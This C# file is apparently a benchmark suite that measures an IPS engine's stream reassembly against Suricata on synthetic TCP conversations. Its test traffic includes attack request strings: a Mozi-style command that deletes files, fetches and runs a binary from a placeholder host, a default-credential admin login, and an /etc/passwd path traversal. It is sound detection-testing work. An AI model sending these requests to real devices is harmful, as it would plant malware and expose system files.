using System.Diagnostics;
using System.Text.Json;
using KalkiEdge.Appliance;
using KalkiEdge.Appliance.Config;
using KalkiEdge.Appliance.Replay;
using KalkiEdge.Appliance.Simulation;
using KalkiEdge.Core;
using KalkiEdge.DataPlane;
using KalkiEdge.DataPlane.Io;

namespace KalkiEdge.Bench.Suites;

/// <summary>
/// <c>ips</c> with TCP stream reassembly against Suricata 7 (<c>--runmode single</c>, stream inline as in
/// tests/peers/suricata.yaml) on one capture of complete TCP conversations (<see cref="StreamCapture"/>:
/// requests cut over three segments, a quarter of them out of order, some retransmitted) and the same 50 rules.
/// Rates are frames/s from the same pcap file, measured in the same run (Suricata's start-up, measured on a tiny
/// capture, is subtracted); the alerts are compared per (sid, flow), so Suricata's duplicate packet and stream
/// alerts of one request count once. `make bench ARGS=ips-stream`; KALKI_BENCH_CONVERSATIONS sets the size
/// (default 20,000 conversations, about 13 frames each).
/// </summary>
public sealed class IpsStreamSuite : IBenchSuite
{
    private readonly record struct RunRate(double Wall, double Cpu);

    private const int Devices = 100;
    private const string IpsChain = "ips(rules: bench-50.rules, alert-cap: 1000000)";

    public string Name => "ips-stream";

    public string Description => "ips with stream reassembly vs suricata --runmode single on the same capture of segmented TCP conversations and rules; alerts per (sid, flow)";

    public IReadOnlyList<Prerequisite> Requires => [Prerequisite.Suricata];

    public static int Conversations => int.TryParse(Environment.GetEnvironmentVariable("KALKI_BENCH_CONVERSATIONS"), out var n) && n > 0 ? n : 20_000;

    public void Run(SuiteReport report)
    {
        var suricata = Suricata.Find() ?? throw new InvalidOperationException(Prerequisite.Suricata.Missing());
        var dir = Directory.CreateTempSubdirectory("kalki-bench-ips-");
        try
        {
            var capture = StreamCapture.Build(Conversations, Devices);
            var pcap = Path.Combine(dir.FullName, "streams.pcap");
            var small = Path.Combine(dir.FullName, "small.pcap");
            capture.Timeline.WritePcap(pcap);
            StreamCapture.Build(20, Devices).Timeline.WritePcap(small);
            int frames = capture.Timeline.Count;
            var rules = Path.Combine(RepoPaths.Root, "umboxes", "rules", "bench-50.rules");

            // Each side's runs are interleaved (ours, pass, Suricata's start-up, Suricata), so a change in the machine's
            // load weighs on both alike; a fresh appliance per repetition: the flows of the previous pass must not be found again.
            RecordingObserver? observer = null;
            var ours = new Runs();
            var pass = new Runs();
            var startup = new Runs();
            var total = new Runs();
            for (int i = 0; i < Repetitions; i++)
            {
                observer = new RecordingObserver();
                ours.Add(Play(Build(capture.Devices, observer, IpsChain), pcap));
                pass.Add(Play(Build(capture.Devices, new RecordingObserver(), "pass"), pcap));

                // Suricata's start-up (rule compilation, flow preallocation) is measured on a tiny capture and subtracted.
                startup.Add(SuricataRun(suricata, small, rules, dir.FullName));
                total.Add(SuricataRun(suricata, pcap, rules, dir.FullName));
            }

            var oursRate = ours.Rate(frames);
            var passRate = pass.Rate(frames);
            var (startWall, startCpu) = startup.Median;
            var (totalWall, totalCpu) = total.Median;
            var theirs = new RunRate(frames / Math.Max(1e-6, totalWall - startWall), frames / Math.Max(1e-6, totalCpu - startCpu));

            var ourAlerts = observer!.Alerts.Where(a => a.Sid is not null && a.Flow is not null)
                .Select(a => (a.Sid!.Value, FlowKey(Ip.Format(a.Flow!.Value.SourceIp), a.Flow.Value.SourcePort, Ip.Format(a.Flow.Value.DestinationIp), a.Flow.Value.DestinationPort))).ToHashSet();
            var suricataAlerts = SuricataAlerts(Path.Combine(dir.FullName, "suricata-log", "eve.json"));
            string runs = $"median of {Repetitions} interleaved runs";
            report.Add("ips(bench-50.rules) with stream reassembly, from pcap file", oursRate.Wall, "frames/s", $"{Conversations} conversations, {frames} frames, {Devices} devices; {runs}");
            report.Add("the same appliance with a pass chain (reading, attribution, pipeline)", passRate.Wall, "frames/s", "what the engine costs without ips");
            report.Add("suricata --runmode single, stream inline, same pcap + rules", theirs.Wall, "frames/s", $"start-up {startWall:F2}s subtracted; {runs}");
            report.Add("ratio kalki-edge ips / suricata", oursRate.Wall / theirs.Wall, "x", "target >= 1.5");
            report.Add("ips frames per processor-second (user+system, all threads)", oursRate.Cpu, "frames/cpu-s");
            report.Add("suricata frames per processor-second (user+system, all threads)", theirs.Cpu, "frames/cpu-s", $"start-up {startCpu:F2} cpu-s subtracted");
            report.Add("ratio by processor time (steadier on a loaded machine)", oursRate.Cpu / theirs.Cpu, "x");
            report.Add("alerts per (sid, flow): kalki-edge", ourAlerts.Count, "alerts", $"expected from the capture: {capture.ExpectedAlerts}");
            report.Add("alerts per (sid, flow): suricata", suricataAlerts.Count, "alerts");
            report.Add("alerts per (sid, flow): only kalki-edge", ourAlerts.Except(suricataAlerts).Count(), "alerts", string.Join(" ", ourAlerts.Except(suricataAlerts).Take(3)));
            report.Add("alerts per (sid, flow): only suricata", suricataAlerts.Except(ourAlerts).Count(), "alerts", string.Join(" ", suricataAlerts.Except(ourAlerts).Take(3)));
        }
        finally
        {
            dir.Delete(recursive: true);
        }
    }

    private const int Repetitions = 3;

    /// <summary>Wall-clock and processor seconds of one play of the capture through <paramref name="appliance"/>.</summary>
    private static (double Wall, double Cpu) Play(EdgeAppliance appliance, string pcap)
    {
        double cpuBefore = CpuTime.Process();
        var sw = Stopwatch.StartNew();
        EngineThroughputSuite.PlayFromFile(appliance, pcap);
        return (sw.Elapsed.TotalSeconds, CpuTime.Process() - cpuBefore);
    }

    /// <summary>Wall-clock and processor seconds of one Suricata run on <paramref name="pcap"/>.</summary>
    private static (double Wall, double Cpu) SuricataRun(Suricata suricata, string pcap, string rules, string dir)
    {
        double cpuBefore = CpuTime.Children();
        var sw = Stopwatch.StartNew();
        suricata.Run(pcap, rules, dir);
        return (sw.Elapsed.TotalSeconds, CpuTime.Children() - cpuBefore);
    }

    /// <summary>The wall-clock and processor seconds of repeated runs, and their medians.</summary>
    private sealed class Runs
    {
        private readonly List<double> _wall = [];
        private readonly List<double> _cpu = [];

        public (double Wall, double Cpu) Median => (Measure.Median(_wall), Measure.Median(_cpu));

        public void Add((double Wall, double Cpu) run)
        {
            _wall.Add(run.Wall);
            _cpu.Add(run.Cpu);
        }

        public RunRate Rate(int frames) => new(frames / Median.Wall, frames / Median.Cpu);
    }

    private static EdgeAppliance Build(IReadOnlyList<Appliance.Simulation.Host> devices, IApplianceObserver observer, string chain)
    {
        var config = new SiteConfig
        {
            File = "bench",
            UmboxesDir = Path.Combine(RepoPaths.Root, "umboxes"),
            NetworkBroadcastChain = "block-all",
            Devices = [.. devices.Select(d => new DeviceConfig(d.Name, Mac.TryParse(d.Mac, out var m) ? m : 0, [Ip.TryParse(d.Ip, out var ip) ? ip : 0], SourceSpan.None("bench"))
            {
                Chain = chain,
            })],
        };
        var diagnostics = new DiagnosticBag();
        return EdgeAppliance.Build(config, diagnostics, observer) ?? throw new InvalidOperationException("bench configuration invalid:\n" + diagnostics);
    }

    /// <summary>(sid, flow) of every alert in Suricata's EVE log; the flow written the same way whichever side sent the packet.</summary>
    private static HashSet<(long Sid, string Flow)> SuricataAlerts(string eve)
    {
        var alerts = new HashSet<(long, string)>();
        foreach (var line in File.ReadLines(eve))
        {
            using var doc = JsonDocument.Parse(line);
            var e = doc.RootElement;
            if (e.GetProperty("event_type").GetString() != "alert")
            {
                continue;
            }

            alerts.Add((e.GetProperty("alert").GetProperty("signature_id").GetInt64(),
                FlowKey(e.GetProperty("src_ip").GetString()!, e.GetProperty("src_port").GetInt32(), e.GetProperty("dest_ip").GetString()!, e.GetProperty("dest_port").GetInt32())));
        }

        return alerts;
    }

    private static string FlowKey(string a, int portA, string b, int portB)
    {
        var x = $"{a}:{portA}";
        var y = $"{b}:{portB}";
        return string.CompareOrdinal(x, y) <= 0 ? $"{x}-{y}" : $"{y}-{x}";
    }
}

/// <summary>
/// Complete TCP conversations toward devices' web servers (RFC 793 seq/ack arithmetic): handshake, an HTTP
/// request cut into three segments (every fourth conversation sends the third before the second, every eighth
/// retransmits the second: an overlap with the same data), the server's ACK and 200 answer, and the FIN exchange.
/// One conversation in ten asks for /shell?, one for /boaform/admin and one for a path traversal: the rest are
/// benign page loads. Conversations overlap in time, 200 µs apart.
/// </summary>
public sealed class StreamCapture
{
    private static readonly string[] Attacks =
    [
        "GET /shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.66/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws HTTP/1.1\r\nUser-Agent: Hello, world\r\nHost: {0}\r\n\r\n",
        "GET /boaform/admin/formLogin?username=admin&psd=admin HTTP/1.1\r\nHost: {0}\r\nUser-Agent: Mozilla/4.0 (Hydra)\r\n\r\n",
        "GET /cgi-bin/../../../../../etc/passwd HTTP/1.1\r\nHost: {0}\r\n\r\n",
    ];

    private StreamCapture(Timeline timeline, IReadOnlyList<Appliance.Simulation.Host> devices, int expectedAlerts)
    {
        Timeline = timeline;
        Devices = devices;
        ExpectedAlerts = expectedAlerts;
    }

    public Timeline Timeline { get; }

    public IReadOnlyList<Appliance.Simulation.Host> Devices { get; }

    /// <summary>Conversations carrying an attack (one alert per (sid, flow) each).</summary>
    public int ExpectedAlerts { get; }

    public static StreamCapture Build(int conversations, int deviceCount)
    {
        var devices = Enumerable.Range(0, deviceCount).Select(TrafficMix.DeviceHost).ToList();
        var timeline = new Timeline();
        int attacks = 0;
        for (int i = 0; i < conversations; i++)
        {
            var device = devices[i % deviceCount];
            var client = TrafficMix.Cloud(i % 50);
            var request = i % 10 < Attacks.Length
                ? string.Format(System.Globalization.CultureInfo.InvariantCulture, Attacks[i % 10], device.Ip)
                : $"GET /index.html?page={i} HTTP/1.1\r\nHost: {device.Ip}\r\nUser-Agent: Mozilla/5.0\r\nAccept: text/html\r\nConnection: close\r\n\r\n";
            attacks += i % 10 < Attacks.Length ? 1 : 0;
            Conversation(timeline, client, device, (ushort)(10000 + (i / 50 % 50000)), request, i, TrafficMix.Start + (i * 200L));
        }

        return new StreamCapture(timeline, devices, attacks);
    }

    private static void Conversation(Timeline t, Appliance.Simulation.Host client, Appliance.Simulation.Host device, ushort port, string request, int i, long at)
    {
        uint c = (uint)(i * 7919), s = (uint)(i * 104729);
        var bytes = PacketFactory.Ascii(request);
        int third = bytes.Length / 3;
        var parts = new[] { bytes[..third], bytes[third..(2 * third)], bytes[(2 * third)..] };
        var response = PacketFactory.Ascii("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 600\r\n\r\n" + new string('x', 600));
        const long Step = 50;
        t.Add(at, PacketFactory.Tcp(client, device, port, 80, syn: true, ack: false, fin: false, c, 0, []));
        t.Add(at += Step, PacketFactory.Tcp(device, client, 80, port, syn: true, ack: true, fin: false, s, c + 1, []));
        t.Add(at += Step, PacketFactory.Tcp(client, device, port, 80, syn: false, ack: true, fin: false, c + 1, s + 1, []));
        uint seq = c + 1;
        var order = i % 4 == 1 ? new[] { 0, 2, 1 } : new[] { 0, 1, 2 };
        foreach (int p in order)
        {
            uint offset = (uint)(p * third);
            t.Add(at += Step, PacketFactory.Tcp(client, device, port, 80, syn: false, ack: true, fin: false, seq + offset, s + 1, parts[p], psh: p == 2));
        }

        if (i % 8 == 3)
        {
            t.Add(at += Step, PacketFactory.Tcp(client, device, port, 80, syn: false, ack: true, fin: false, seq + (uint)third, s + 1, parts[1]));
        }

        uint clientEnd = seq + (uint)bytes.Length;
        t.Add(at += Step, PacketFactory.Tcp(device, client, 80, port, syn: false, ack: true, fin: false, s + 1, clientEnd, []));
        t.Add(at += Step, PacketFactory.Tcp(device, client, 80, port, syn: false, ack: true, fin: false, s + 1, clientEnd, response, psh: true));
        uint serverEnd = s + 1 + (uint)response.Length;
        t.Add(at += Step, PacketFactory.Tcp(client, device, port, 80, syn: false, ack: true, fin: true, clientEnd, serverEnd, []));
        t.Add(at += Step, PacketFactory.Tcp(device, client, 80, port, syn: false, ack: true, fin: true, serverEnd, clientEnd + 1, []));
        t.Add(at + Step, PacketFactory.Tcp(client, device, port, 80, syn: false, ack: true, fin: false, clientEnd + 1, serverEnd + 1, []));
    }
}
